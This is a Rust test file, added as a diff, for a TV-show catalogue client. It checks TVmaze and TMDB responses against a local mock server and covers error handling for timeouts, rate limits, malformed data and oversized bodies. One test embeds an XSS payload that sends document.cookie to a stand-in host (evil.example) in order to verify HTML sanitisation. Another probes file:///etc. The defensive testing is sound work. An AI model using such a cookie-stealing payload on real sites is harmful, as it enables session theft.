@@ -1,0 +1,954 @@
+//! Catalogue lookups against a real local HTTP server that serves the real
+//! recorded TVmaze and TMDB responses in `../shared/fixtures/catalog/`, and
+//! misbehaves on purpose (slow, rate-limited, failing, garbage, huge) to
+//! check that every failure reaches the user as a clear error.
+
+use std::io::Cursor;
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use watchlog_core::catalog::blocking::BlockingCatalog;
+use watchlog_core::catalog::{
+    html_to_text, Catalog, CatalogConfig, CatalogRef, Details, MatchOutcome, MatchQuery, Provider,
+};
+use watchlog_core::net::NetConfig;
+use watchlog_core::{EntryFields, Error, ExternalIds, Kind, Library, Rating, Status};
+
+// ---------------------------------------------------------------- fixtures
+
+fn fixtures_dir() -> PathBuf {
+    // The repository root is two levels above this crate; fixtures live
+    // beside the repository, never inside it.
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/fixtures/catalog")
+}
+
+/// A fixture's bytes; `None` (test skipped, reason printed) when missing,
+/// except under CI where a missing fixture fails the test.
+fn fixture(rel: &str) -> Option<Vec<u8>> {
+    let path = fixtures_dir().join(rel);
+    match std::fs::read(&path) {
+        Ok(b) => Some(b),
+        Err(e) => {
+            let msg = format!("fixture {} is not readable: {e}", path.display());
+            if std::env::var("CI").is_ok_and(|v| v == "true") {
+                panic!("{msg} (CI=true: fixtures must be present)");
+            }
+            eprintln!("skipping: {msg}");
+            None
+        }
+    }
+}
+
+fn json(bytes: &[u8]) -> Value {
+    serde_json::from_slice(bytes).expect("fixture is JSON")
+}
+
+// ------------------------------------------------------------------ server
+
+#[derive(Debug, Clone)]
+struct Req {
+    path: String,
+    query: String,
+    authorization: Option<String>,
+}
+
+struct Reply {
+    status: u16,
+    body: Vec<u8>,
+    content_type: &'static str,
+    headers: Vec<(&'static str, String)>,
+    delay: Duration,
+    /// Sent chunked, with no Content-Length.
+    chunked: bool,
+}
+
+impl Reply {
+    fn json(status: u16, body: impl Into<Vec<u8>>) -> Self {
+        Reply {
+            status,
+            body: body.into(),
+            content_type: "application/json; charset=utf-8",
+            headers: Vec::new(),
+            delay: Duration::ZERO,
+            chunked: false,
+        }
+    }
+
+    fn not_found() -> Self {
+        Reply::json(
+            404,
+            r#"{"name":"Not Found","message":"","code":0,"status":404}"#,
+        )
+    }
+}
+
+type Handler = dyn Fn(&Req) -> Reply + Send + Sync;
+
+/// A real HTTP server on 127.0.0.1 with a free port, one thread per request.
+struct Server {
+    server: Arc<tiny_http::Server>,
+    base: String,
+    seen: Arc<Mutex<Vec<Req>>>,
+}
+
+impl Server {
+    fn start(handler: impl Fn(&Req) -> Reply + Send + Sync + 'static) -> Self {
+        let server = Arc::new(tiny_http::Server::http("127.0.0.1:0").expect("bind 127.0.0.1:0"));
+        let port = server.server_addr().to_ip().expect("an IP address").port();
+        let seen: Arc<Mutex<Vec<Req>>> = Arc::default();
+        let handler: Arc<Handler> = Arc::new(handler);
+        let (srv, log) = (server.clone(), seen.clone());
+        thread::spawn(move || {
+            for request in srv.incoming_requests() {
+                let (handler, log) = (handler.clone(), log.clone());
+                thread::spawn(move || {
+                    let url = request.url().to_string();
+                    let (path, query) = url.split_once('?').unwrap_or((&url, ""));
+                    let req = Req {
+                        path: path.to_string(),
+                        query: query.to_string(),
+                        authorization: request
+                            .headers()
+                            .iter()
+                            .find(|h| h.field.equiv("Authorization"))
+                            .map(|h| h.value.to_string()),
+                    };
+                    log.lock().unwrap().push(req.clone());
+                    let reply = handler(&req);
+                    thread::sleep(reply.delay);
+                    let mut headers =
+                        vec![
+                            tiny_http::Header::from_bytes("Content-Type", reply.content_type)
+                                .unwrap(),
+                        ];
+                    for (k, v) in &reply.headers {
+                        headers.push(tiny_http::Header::from_bytes(*k, v.as_bytes()).unwrap());
+                    }
+                    let len = (!reply.chunked).then_some(reply.body.len());
+                    let response = tiny_http::Response::new(
+                        tiny_http::StatusCode(reply.status),
+                        headers,
+                        Cursor::new(reply.body),
+                        len,
+                        None,
+                    );
+                    let _ = request.respond(response);
+                });
+            }
+        });
+        Server {
+            base: format!("http://127.0.0.1:{port}"),
+            server,
+            seen,
+        }
+    }
+
+    fn hits(&self) -> Vec<Req> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.server.unblock();
+    }
+}
+
+const V3_KEY: &str = "0123456789abcdef0123456789abcdef";
+
+fn config(server: &Server) -> CatalogConfig {
+    CatalogConfig {
+        tvmaze_url: server.base.clone(),
+        tmdb_url: format!("{}/3", server.base),
+        tmdb_key: Some(V3_KEY.into()),
+        cache_ttl: Duration::ZERO,
+        net: NetConfig {
+            connect_timeout: Duration::from_millis(500),
+            timeout: Duration::from_millis(1500),
+            max_body_bytes: 2 << 20,
+            max_attempts: 3,
+            backoff: Duration::from_millis(10),
+            max_retry_after: Duration::from_secs(2),
+            rate_limit: None,
+        },
+        ..CatalogConfig::default()
+    }
+}
+
+fn catalog(server: &Server) -> BlockingCatalog {
+    BlockingCatalog::new(config(server)).expect("catalog")
+}
+
+fn code(e: &Error) -> &'static str {
+    e.code()
+}
+
+// ---------------------------------------------------------- TVmaze routes
+
+/// Every recorded TVmaze show object, by id: the flexget cassettes found
+/// through `_index.json`, and the `/search/shows?q=robot` results.
+fn tvmaze_shows() -> Option<Vec<Value>> {
+    let index = json(&fixture("tvmaze/flexget/_index.json")?);
+    let mut shows = Vec::new();
+    for item in index.as_array().expect("index is a list") {
+        let (file, status) = (item["file"].as_str().unwrap(), item["status"].as_u64());
+        let uri = item["uri"].as_str().unwrap();
+        let is_show = uri.contains("/singlesearch/shows") || uri.contains("?embed=seasons");
+        if status == Some(200) && is_show && !uri.contains("episode") {
+            let v = json(&fixture(&format!("tvmaze/flexget/{file}"))?);
+            shows.push(v);
+        }
+    }
+    for hit in json(&fixture("tvmaze/search_shows_q_robot.json")?)
+        .as_array()
+        .unwrap()
+    {
+        shows.push(hit["show"].clone());
+    }
+    Some(shows)
+}
+
+/// Serves `/shows/{id}` from the recorded show objects. Mr. Robot (1871)
+/// gets its real recorded episode list embedded, as TVmaze does for
+/// `embed[]=episodes`.
+fn tvmaze_router(shows: Vec<Value>, robot_episodes: Value) -> impl Fn(&Req) -> Reply {
+    move |req: &Req| {
+        let parts: Vec<&str> = req.path.trim_matches('/').split('/').collect();
+        match parts.as_slice() {
+            ["shows", id] => {
+                let Some(mut show) = shows
+                    .iter()
+                    .find(|s| s["id"].as_u64().is_some_and(|n| n.to_string() == *id))
+                    .cloned()
+                else {
+                    return Reply::not_found();
+                };
+                if *id == "1871" {
+                    show["_embedded"] =
+                        serde_json::json!({ "episodes": robot_episodes, "cast": [] });
+                }
+                Reply::json(200, show.to_string())
+            }
+            ["shows", _, "crew"] => Reply::not_found(),
+            ["lookup", "shows"] => {
+                let (param, value) = req.query.split_once('=').unwrap_or(("", ""));
+                let key = if param == "imdb" { "imdb" } else { "thetvdb" };
+                match shows
+                    .iter()
+                    .find(|s| s["externals"][key].to_string().trim_matches('"') == value)
+                {
+                    Some(s) => {
+                        let mut r = Reply::json(301, "");
+                        r.headers.push(("Location", format!("/shows/{}", s["id"])));
+                        r
+                    }
+                    None => Reply::not_found(),
+                }
+            }
+            _ => Reply::not_found(),
+        }
+    }
+}
+
+fn tvmaze_server() -> Option<(Server, Vec<Value>)> {
+    let shows = tvmaze_shows()?;
+    let episodes = json(&fixture("tvmaze/shows_1871_episodes.json")?);
+    let search = fixture("tvmaze/search_shows_q_robot.json")?;
+    let route = tvmaze_router(shows.clone(), episodes);
+    let server = Server::start(move |req| {
+        if req.path == "/search/shows" {
+            Reply::json(200, search.clone())
+        } else {
+            route(req)
+        }
+    });
+    Some((server, shows))
+}
+
+// ------------------------------------------------------------ TVmaze tests
+
+#[test]
+fn tvmaze_search_maps_the_recorded_results() {
+    let Some((server, _)) = tvmaze_server() else {
+        return;
+    };
+    let raw = json(&fixture("tvmaze/search_shows_q_robot.json").unwrap());
+    let results = catalog(&server).search(Provider::Tvmaze, "robot").unwrap();
+    assert_eq!(
+        results.len(),
+        raw.as_array().unwrap().len(),
+        "one result per hit"
+    );
+    for (r, hit) in results.iter().zip(raw.as_array().unwrap()) {
+        let show = &hit["show"];
+        assert_eq!(r.provider, Provider::Tvmaze);
+        assert_eq!(r.provider_id, show["id"].to_string());
+        assert_eq!(r.name, show["name"].as_str().unwrap());
+        let premiered = show["premiered"]
+            .as_str()
+            .map(|d| d[..4].parse::<i32>().unwrap());
+        assert_eq!(r.year, premiered, "year of {}", r.name);
+        let channel = if show["network"].is_null() {
+            &show["webChannel"]
+        } else {
+            &show["network"]
+        };
+        assert_eq!(
+            r.network.as_deref(),
+            channel["name"].as_str(),
+            "network of {}",
+            r.name
+        );
+        if let Some(code) = channel["country"]["code"].as_str() {
+            assert_eq!(r.country.as_deref(), Some(code), "country of {}", r.name);
+        }
+        assert_eq!(
+            r.poster_thumb_url.as_deref(),
+            show["image"]["medium"].as_str()
+        );
+        if let Some(s) = &r.summary {
+            assert!(
+                !s.contains('<') && !s.contains("&amp;"),
+                "summary is plain text: {s}"
+            );
+        }
+    }
+    let robot = results
+        .iter()
+        .find(|r| r.provider_id == "1871")
+        .expect("Mr. Robot");
+    assert_eq!(
+        (robot.name.as_str(), robot.year, robot.country.as_deref()),
+        ("Mr. Robot", Some(2015), Some("US"))
+    );
+    assert_eq!(
+        server.hits()[0].query,
+        "q=robot",
+        "the query goes in the q parameter"
+    );
+}
+
+#[test]
+fn tvmaze_details_bring_facts_ids_and_real_episodes() {
+    let Some((server, _)) = tvmaze_server() else {
+        return;
+    };
+    let episodes = json(&fixture("tvmaze/shows_1871_episodes.json").unwrap());
+    let d = catalog(&server)
+        .details(&"tvmaze:1871".parse().unwrap())
+        .unwrap();
+    let f = &d.facts;
+    assert_eq!(f.name, "Mr. Robot");
+    assert_eq!(f.year, Some(2015));
+    assert_eq!(f.language.as_deref(), Some("en"), "English → en");
+    assert_eq!(f.network.as_deref(), Some("USA Network"));
+    assert_eq!(f.country.as_deref(), Some("US"));
+    assert_eq!(f.genres, ["Drama", "Crime", "Thriller"]);
+    assert_eq!(f.runtime_minutes, Some(60));
+    assert_eq!(f.kind, Kind::Series, "a running show is no miniseries");
+    assert_eq!(f.external_ids.tvmaze.as_deref(), Some("1871"));
+    assert_eq!(f.external_ids.tvdb.as_deref(), Some("289590"));
+    let n = episodes.as_array().unwrap().len();
+    assert_eq!(d.episodes.len(), n);
+    assert_eq!(f.episodes, Some(n as u32));
+    assert_eq!(f.seasons, Some(1));
+    let first = &d.episodes[0];
+    assert_eq!(first.name.as_deref(), episodes[0]["name"].as_str());
+    assert_eq!(
+        first.airdate.map(|d| d.to_string()).as_deref(),
+        episodes[0]["airdate"].as_str()
+    );
+    assert_eq!(
+        (first.season, first.number, first.runtime_minutes),
+        (1, 1, Some(60))
+    );
+    assert!(f.synopsis.as_deref().is_some_and(|s| !s.contains("<p>")));
+    assert_eq!(d.poster_url, f.poster_url);
+    let requested = server.hits().iter().any(|r| {
+        r.path == "/shows/1871"
+            && r.query.contains("embed[]=episodes")
+            && r.query.contains("embed[]=cast")
+    });
+    assert!(
+        requested,
+        "episodes and cast are embedded: {:?}",
+        server.hits()
+    );
+}
+
+#[test]
+fn tvmaze_streaming_shows_use_the_web_channel() {
+    let Some((server, shows)) = tvmaze_server() else {
+        return;
+    };
+    let raw = shows
+        .iter()
+        .find(|s| s["id"] == 1370)
+        .expect("Jessica Jones is recorded");
+    let d = catalog(&server)
+        .details(&CatalogRef::new(Provider::Tvmaze, "1370"))
+        .unwrap();
+    assert!(raw["network"].is_null());
+    assert_eq!(
+        d.facts.network.as_deref(),
+        raw["webChannel"]["name"].as_str()
+    );
+    assert_eq!(d.facts.network.as_deref(), Some("Netflix"));
+    assert_eq!(d.facts.country.as_deref(), Some("US"));
+    assert_eq!(
+        d.facts.seasons,
+        Some(raw["_embedded"]["seasons"].as_array().unwrap().len() as u32),
+        "seasons counted from the embedded season list"
+    );
+    assert_eq!(d.facts.external_ids.imdb.as_deref(), Some("tt2357547"));
+    assert_eq!(d.facts.external_ids.tvdb.as_deref(), Some("284190"));
+    assert_eq!(d.facts.episodes, None, "no episode list, no count");
+
+    let talk = catalog(&server)
+        .details(&"tvmaze:3928".parse().unwrap())
+        .unwrap();
+    assert_eq!(talk.facts.name, "The Daily Show with Trevor Noah");
+    assert_eq!(talk.facts.network.as_deref(), Some("Comedy Central"));
+    assert_eq!(talk.facts.external_ids.imdb, None);
+
+    let e = catalog(&server)
+        .details(&"tvmaze:999999".parse().unwrap())
+        .unwrap_err();
+    assert_eq!(code(&e), "not_found", "{e}");
+    assert!(
+        e.to_string().contains("TVmaze has no show with id 999999"),
+        "{e}"
+    );
+}
+
+#[test]
+fn match_prefers_ids_then_scores_the_search() {
+    let Some((server, _)) = tvmaze_server() else {
+        return;
+    };
+    let cat = catalog(&server);
+    // IMDb id: TVmaze's lookup redirects to the show, which is followed.
+    let by_imdb = MatchQuery {
+        title: "Jessica Jones".into(),
+        external_ids: ExternalIds {
+            imdb: Some("tt2357547".into()),
+            ..Default::default()
+        },
+        ..Default::default()
+    };
+    match cat.match_title(Provider::Tvmaze, &by_imdb).unwrap() {
+        MatchOutcome::Exact(d) => assert_eq!(d.facts.external_ids.tvmaze.as_deref(), Some("1370")),
+        other => panic!("expected an exact match, got {other:?}"),
+    }
+    let by_tvdb = MatchQuery {
+        title: "whatever".into(),
+        external_ids: ExternalIds {
+            tvdb: Some("289590".into()),
+            ..Default::default()
+        },
+        ..Default::default()
+    };
+    assert!(matches!(
+        cat.match_title(Provider::Tvmaze, &by_tvdb).unwrap(),
+        MatchOutcome::Exact(d) if d.facts.name == "Mr. Robot"
+    ));
+    // No ids: the search results are scored.
+    let by_name = MatchQuery {
+        title: "mr robot".into(),
+        year: Some(2016),
+        kind: Some(Kind::Series),
+        ..Default::default()
+    };
+    match cat.match_title(Provider::Tvmaze, &by_name).unwrap() {
+        MatchOutcome::Likely(r) => assert_eq!(r.provider_id, "1871"),
+        other => panic!("expected Mr. Robot as likely, got {other:?}"),
+    }
+    let nothing = MatchQuery {
+        title: "Soundtrack #2".into(),
+        year: Some(2023),
+        ..Default::default()
+    };
+    assert_eq!(
+        cat.match_title(Provider::Tvmaze, &nothing).unwrap(),
+        MatchOutcome::NotFound
+    );
+}
+
+#[test]
+fn catalogue_shows_enter_the_library_and_refresh_without_touching_user_fields() {
+    let Some((server, _)) = tvmaze_server() else {
+        return;
+    };
+    let d = catalog(&server)
+        .details(&"tvmaze:1871".parse().unwrap())
+        .unwrap();
+    let mut lib = Library::open_in_memory().unwrap();
+    let fields = EntryFields {
+        status: Status::Watching,
+        rating: Some(Rating::new(85).unwrap()),
+        review: Some("Hello, friend.".into()),
+        progress: 10,
+        ..Default::default()
+    };
+    let id = lib.add_from_catalog(&d, &fields).unwrap();
+    let entry = lib.entry(id).unwrap();
+    assert_eq!(entry.title.facts.name, "Mr. Robot");
+    assert_eq!(
+        entry.title.facts.external_ids.tvmaze.as_deref(),
+        Some("1871")
+    );
+    assert_eq!(
+        lib.episodes(id).unwrap(),
+        d.episodes,
+        "episodes stored in order"
+    );
+    let again = lib
+        .add_from_catalog(&d, &EntryFields::default())
+        .unwrap_err();
+    assert_eq!(code(&again), "conflict", "{again}");
+
+    // A later refresh lists fewer episodes than the user watched: the count
+    // is raised to the progress, the user's fields stay as they were.
+    let mut fewer: Details = d.clone();
+    fewer.episodes.truncate(4);
+    fewer.facts.episodes = Some(4);
+    fewer.facts.name = "Mr. Robot (renamed)".into();
+    fewer.facts.original_name = None;
+    let refreshed = lib.refresh_title(id, &fewer).unwrap();
+    assert_eq!(refreshed.title.facts.name, "Mr. Robot (renamed)");
+    assert_eq!(refreshed.title.facts.episodes, Some(10));
+    assert_eq!(refreshed.fields.progress, 10);
+    assert_eq!(refreshed.fields.rating, fields.rating);
+    assert_eq!(refreshed.fields.review, fields.review);
+    assert_eq!(refreshed.fields.status, Status::Watching);
+    assert_eq!(lib.episodes(id).unwrap().len(), 4);
+}
+
+// -------------------------------------------------------------- TMDB tests
+
+fn tmdb_server() -> Option<Server> {
+    let popular = fixture("tmdb/tv-popular.json")?;
+    let mut details = json(&fixture("tmdb/tv-details.json")?);
+    details["watch/providers"] = json(&fixture("tmdb/tv-watch-providers.json")?);
+    let miniseries = fixture("tmdb/tv-details-complex.json")?;
+    let not_found = fixture("tmdb/resource-not-found.json")?;
+    let bad_key = fixture("tmdb/invalid-api-key.json")?;
+    Some(Server::start(move |req| {
+        let key_ok = req.query.contains(&format!("api_key={V3_KEY}"))
+            || req
+                .authorization
+                .as_deref()
+                .is_some_and(|a| a.starts_with("Bearer eyJ"));
+        if !key_ok {
+            return Reply::json(401, bad_key.clone());
+        }
+        match req.path.as_str() {
+            // The popular list has the same shape as a search page and holds
+            // real Korean titles.
+            "/3/search/tv" => Reply::json(200, popular.clone()),
+            "/3/tv/1399" => Reply::json(200, details.to_string()),
+            "/3/tv/2" => Reply::json(200, miniseries.clone()),
+            _ => Reply::json(404, not_found.clone()),
+        }
+    }))
+}
+
+#[test]
+fn tmdb_search_keeps_the_native_title() {
+    let Some(server) = tmdb_server() else {
+        return;
+    };
+    let results = catalog(&server).search(Provider::Tmdb, "우당탕탕").unwrap();
+    let family = results
+        .iter()
+        .find(|r| r.provider_id == "230525")
+        .expect("Unpredictable Family in the results");
+    assert_eq!(family.name, "Unpredictable Family");
+    assert_eq!(family.original_name.as_deref(), Some("우당탕탕 패밀리"));
+    assert_eq!(family.country.as_deref(), Some("KR"));
+    assert_eq!(family.year, Some(2023));
+    assert_eq!(
+        family.poster_thumb_url.as_deref(),
+        Some("https://image.tmdb.org/t/p/w342/goMzJ6rxTndGki2pKpyAKuKNXHY.jpg")
+    );
+    let ncis = results.iter().find(|r| r.name == "NCIS").unwrap();
+    assert_eq!(ncis.original_name, None, "same as the name: not repeated");
+    let hit = &server.hits()[0];
+    assert!(
+        hit.query.contains("query=%EC%9A%B0"),
+        "encoded query: {}",
+        hit.query
+    );
+    assert!(hit.authorization.is_none(), "a v3 key goes in the query");
+}
+
+#[test]
+fn tmdb_details_map_facts_posters_and_providers() {
+    let Some(server) = tmdb_server() else {
+        return;
+    };
+    let raw = json(&fixture("tmdb/tv-details.json").unwrap());
+    let watch = json(&fixture("tmdb/tv-watch-providers.json").unwrap());
+    let d = catalog(&server)
+        .details(&"tmdb:1399".parse().unwrap())
+        .unwrap();
+    let f = &d.facts;
+    assert_eq!(f.name, raw["name"].as_str().unwrap());
+    assert_eq!(f.year, Some(2011));
+    assert_eq!(
+        f.seasons,
+        raw["number_of_seasons"].as_u64().map(|n| n as u32)
+    );
+    assert_eq!(
+        f.episodes,
+        raw["number_of_episodes"].as_u64().map(|n| n as u32)
+    );
+    assert_eq!(f.network.as_deref(), Some("HBO"));
+    assert_eq!(f.country.as_deref(), Some("US"));
+    assert_eq!(f.language.as_deref(), Some("en"));
+    assert_eq!(f.airing, Some(watchlog_core::Airing::Ended));
+    assert_eq!(f.external_ids.tmdb.as_deref(), Some("1399"));
+    assert_eq!(f.genres.len(), raw["genres"].as_array().unwrap().len());
+    assert!(
+        f.people.iter().any(|p| p.name == "David Benioff"),
+        "creators as writers"
+    );
+    assert_eq!(
+        f.poster_url.as_deref(),
+        Some("https://image.tmdb.org/t/p/w780/1XS1oqL89opfnbLl8WnZY1O1uJx.jpg")
+    );
+    assert_eq!(
+        d.poster_url.as_deref(),
+        Some("https://image.tmdb.org/t/p/original/1XS1oqL89opfnbLl8WnZY1O1uJx.jpg")
+    );
+    let us_flatrate: Vec<&str> = watch["results"]["US"]["flatrate"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|o| o["provider_name"].as_str().unwrap())
+        .collect();
+    assert!(!us_flatrate.is_empty());
+    for name in us_flatrate {
+        assert!(
+            d.providers.contains(&("US".to_string(), name.to_string())),
+            "{name} in the US providers: {:?}",
+            d.providers
+        );
+    }
+    let requested = &server.hits()[0];
+    assert_eq!(
+        requested.query,
+        format!("append_to_response=external_ids,credits,watch/providers&api_key={V3_KEY}")
+    );
+    let mini = catalog(&server)
+        .details(&"tmdb:2".parse().unwrap())
+        .unwrap();
+    assert_eq!(mini.facts.kind, Kind::Miniseries);
+    let e = catalog(&server)
+        .details(&"tmdb:404404".parse().unwrap())
+        .unwrap_err();
+    assert_eq!(code(&e), "not_found", "{e}");
+}
+
+#[test]
+fn tmdb_invalid_key_is_a_clear_message_without_the_key() {
+    let Some(server) = tmdb_server() else {
+        return;
+    };
+    let mut cfg = config(&server);
+    let wrong = "ffffffffffffffffffffffffffffffff";
+    cfg.tmdb_key = Some(wrong.into());
+    let e = BlockingCatalog::new(cfg)
+        .unwrap()
+        .search(Provider::Tmdb, "Soundtrack")
+        .unwrap_err();
+    assert_eq!(code(&e), "key_refused");
+    assert_eq!(
+        e.to_string(),
+        "TMDB refused the API key; check it in Settings"
+    );
+    assert!(!format!("{e:?}").contains(wrong), "the key never appears");
+
+    let mut cfg = config(&server);
+    cfg.tmdb_key = None;
+    let e = BlockingCatalog::new(cfg)
+        .unwrap()
+        .search(Provider::Tmdb, "Soundtrack")
+        .unwrap_err();
+    assert_eq!(code(&e), "key_missing", "{e}");
+    assert!(server.hits().len() == 1, "no request without a key");
+}
+
+#[test]
+fn tmdb_read_access_tokens_go_in_the_authorization_header() {
+    let Some(server) = tmdb_server() else {
+        return;
+    };
+    let token = format!("eyJhbGciOiJIUzI1NiJ9.{}.signature", "a".repeat(120));
+    let mut cfg = config(&server);
+    cfg.tmdb_key = Some(token.clone());
+    let results = BlockingCatalog::new(cfg)
+        .unwrap()
+        .search(Provider::Tmdb, "Berlin")
+        .unwrap();
+    assert!(!results.is_empty());
+    let hit = &server.hits()[0];
+    assert_eq!(
+        hit.authorization.as_deref(),
+        Some(format!("Bearer {token}").as_str())
+    );
+    assert!(!hit.query.contains("api_key"), "{}", hit.query);
+}
+
+// ----------------------------------------------------------- misbehaviour
+
+fn fast_failing(server: &Server) -> BlockingCatalog {
+    let mut cfg = config(server);
+    cfg.net.timeout = Duration::from_millis(300);
+    BlockingCatalog::new(cfg).unwrap()
+}
+
+#[test]
+fn a_slow_server_times_out_with_a_clear_message() {
+    let server = Server::start(|_| {
+        let mut r = Reply::json(200, "[]");
+        r.delay = Duration::from_millis(1200);
+        r
+    });
+    let started = Instant::now();
+    let e = fast_failing(&server)
+        .search(Provider::Tvmaze, "slow")
+        .unwrap_err();
+    assert!(
+        started.elapsed() < Duration::from_millis(1000),
+        "gave up in time"
+    );
+    assert_eq!(code(&e), "timeout");
+    assert_eq!(e.to_string(), "TVmaze did not answer within 300 ms");
+}
+
+#[test]
+fn rate_limited_requests_wait_for_retry_after_then_succeed() {
+    let Some(search) = fixture("tvmaze/search_shows_q_robot.json") else {
+        return;
+    };
+    let count = Arc::new(Mutex::new(0));
+    let c = count.clone();
+    let server = Server::start(move |_| {
+        let mut n = c.lock().unwrap();
+        *n += 1;
+        if *n == 1 {
+            let mut r = Reply::json(429, r#"{"name":"Too Many Requests","status":429}"#);
+            r.headers.push(("Retry-After", "1".into()));
+            r
+        } else {
+            Reply::json(200, search.clone())
+        }
+    });
+    let started = Instant::now();
+    let results = catalog(&server).search(Provider::Tvmaze, "robot").unwrap();
+    let waited = started.elapsed();
+    assert!(!results.is_empty());
+    assert_eq!(server.hits().len(), 2, "one refusal, one success");
+    assert!(
+        waited >= Duration::from_secs(1),
+        "Retry-After honoured: {waited:?}"
+    );
+    assert!(waited < Duration::from_millis(1900), "{waited:?}");
+}
+
+#[test]
+fn rate_limiting_that_lasts_is_reported() {
+    let server = Server::start(|_| {
+        let mut r = Reply::json(429, "{}");
+        r.headers.push(("Retry-After", "3600".into()));
+        r
+    });
+    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
+    assert_eq!(code(&e), "rate_limited");
+    assert!(e.to_string().contains("wait 60 minutes"), "{e}");
+    assert_eq!(server.hits().len(), 1, "an hour is not waited out");
+}
+
+#[test]
+fn server_errors_are_retried_then_given_up() {
+    let server = Server::start(|_| Reply::json(500, "<h1>Internal Server Error</h1>"));
+    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
+    assert_eq!(code(&e), "provider_error");
+    assert_eq!(
+        e.to_string(),
+        "TVmaze answered with a server error (HTTP 500) 3 times; it may be down, try again later"
+    );
+    assert_eq!(server.hits().len(), 3, "bounded attempts");
+}
+
+#[test]
+fn malformed_json_is_a_bad_response() {
+    let server = Server::start(|_| Reply::json(200, r#"[{"score": 1, "show": {"id": "#));
+    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
+    assert_eq!(code(&e), "bad_response");
+    assert!(
+        e.to_string()
+            .starts_with("TVmaze sent something that is not a show list"),
+        "{e}"
+    );
+    // Valid JSON of the wrong shape is no better.
+    let server = Server::start(|_| Reply::json(200, r#"{"message": "hello"}"#));
+    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
+    assert_eq!(code(&e), "bad_response", "{e}");
+}
+
+#[test]
+fn an_html_error_page_is_named_as_such() {
+    let server = Server::start(|_| {
+        let mut r = Reply::json(
+            200,
+            "<!DOCTYPE html><html><body><h1>Captive portal: please log in</h1></body></html>",
+        );
+        r.content_type = "text/html; charset=utf-8";
+        r
+    });
+    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
+    assert_eq!(code(&e), "bad_response");
+    assert!(
+        e.to_string()
+            .contains("TVmaze sent a web page instead of a show list"),
+        "{e}"
+    );
+}
+
+#[test]
+fn oversized_bodies_are_refused_while_streaming() {
+    for chunked in [true, false] {
+        let server = Server::start(move |_| {
+            let mut r = Reply::json(200, vec![b' '; 300 * 1024]);
+            r.chunked = chunked;
+            r
+        });
+        let mut cfg = config(&server);
+        cfg.net.max_body_bytes = 64 * 1024;
+        let e = BlockingCatalog::new(cfg)
+            .unwrap()
+            .search(Provider::Tvmaze, "x")
+            .unwrap_err();
+        assert_eq!(code(&e), "bad_response", "chunked={chunked}: {e}");
+        assert!(e.to_string().contains("TVmaze sent more than"), "{e}");
+    }
+}
+
+#[test]
+fn script_in_a_summary_becomes_inert_text() {
+    let Some(search) = fixture("tvmaze/search_shows_q_robot.json") else {
+        return;
+    };
+    let mut hits = json(&search);
+    hits[0]["show"]["summary"] = Value::String(
+        "<p>Good &amp; evil<script>fetch('https://evil.example/'+document.cookie)</script></p><p onclick=\"x()\">Part <b>2</b></p><img src=x onerror=alert(1)>".into(),
+    );
+    let body = hits.to_string();
+    let server = Server::start(move |_| Reply::json(200, body.clone()));
+    let results = catalog(&server).search(Provider::Tvmaze, "robot").unwrap();
+    let summary = results[0].summary.as_deref().unwrap();
+    assert_eq!(summary, "Good & evil\n\nPart 2");
+    assert_eq!(html_to_text("<script>alert(1)</script>"), "");
+}
+
+#[test]
+fn an_unreachable_service_reads_as_offline() {
+    let port = {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        l.local_addr().unwrap().port()
+    };
+    let mut cfg = CatalogConfig {
+        tvmaze_url: format!("http://127.0.0.1:{port}"),
+        ..CatalogConfig::default()
+    };
+    cfg.net.connect_timeout = Duration::from_millis(300);
+    let e = BlockingCatalog::new(cfg)
+        .unwrap()
+        .search(Provider::Tvmaze, "x")
+        .unwrap_err();
+    assert_eq!(code(&e), "offline");
+    assert_eq!(
+        e.to_string(),
+        "cannot reach TVmaze; check your internet connection"
+    );
+}
+
+#[test]
+fn only_web_addresses_are_fetched() {
+    let cfg = CatalogConfig {
+        tvmaze_url: "file:///etc".into(),
+        ..CatalogConfig::default()
+    };
+    let e = BlockingCatalog::new(cfg)
+        .unwrap()
+        .search(Provider::Tvmaze, "passwd")
+        .unwrap_err();
+    assert_eq!(code(&e), "invalid_input", "{e}");
+}
+
+#[test]
+fn identical_requests_are_answered_from_the_cache() {
+    let server = Server::start(|_| Reply::json(200, "[]"));
+    let mut cfg = config(&server);
+    cfg.cache_ttl = Duration::from_secs(300);
+    let cat = BlockingCatalog::new(cfg).unwrap();
+    cat.search(Provider::Tvmaze, "same").unwrap();
+    cat.search(Provider::Tvmaze, "same").unwrap();
+    cat.search(Provider::Tvmaze, "other").unwrap();
+    assert_eq!(server.hits().len(), 2, "{:?}", server.hits());
+}
+
+#[test]
+fn the_rate_limiter_spaces_out_calls_to_one_host() {
+    let server = Server::start(|_| Reply::json(200, "[]"));
+    let mut cfg = config(&server);
+    cfg.net.rate_limit = Some(watchlog_core::net::RateLimit {
+        requests: 2,
+        per: Duration::from_millis(400),
+    });
+    let cat = BlockingCatalog::new(cfg).unwrap();
+    let started = Instant::now();
+    for q in ["a", "b", "c"] {
+        cat.search(Provider::Tvmaze, q).unwrap();
+    }
+    let took = started.elapsed();
+    assert!(
+        took >= Duration::from_millis(400),
+        "third call waited: {took:?}"
+    );
+    assert!(took < Duration::from_millis(1200), "{took:?}");
+}
+
+#[test]
+fn a_search_is_cancelled_by_dropping_it() {
+    let server = Server::start(|_| {
+        let mut r = Reply::json(200, "[]");
+        r.delay = Duration::from_millis(1500);
+        r
+    });
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let started = Instant::now();
+    let outcome = runtime.block_on(async {
+        let cat = Catalog::new(config(&server)).unwrap();
+        // The app drops a search when the user types on; a timeout drops it
+        // the same way.
+        tokio::time::timeout(
+            Duration::from_millis(100),
+            cat.search(Provider::Tvmaze, "slow"),
+        )
+        .await
+    });
+    assert!(
+        outcome.is_err(),
+        "the search was still running and got dropped"
+    );
+    assert!(started.elapsed() < Duration::from_millis(600));
+}
